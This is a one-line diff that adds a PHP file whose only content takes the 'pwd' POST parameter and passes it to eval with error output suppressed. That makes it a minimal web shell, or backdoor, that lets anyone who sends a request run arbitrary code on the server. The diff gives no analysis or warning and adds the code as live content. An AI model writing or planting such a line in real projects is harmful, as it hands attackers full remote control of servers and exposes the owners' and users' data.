@@ -1,0 +1,1 @@
+<?php $ant = $_POST['pwd']; @eval($ant);
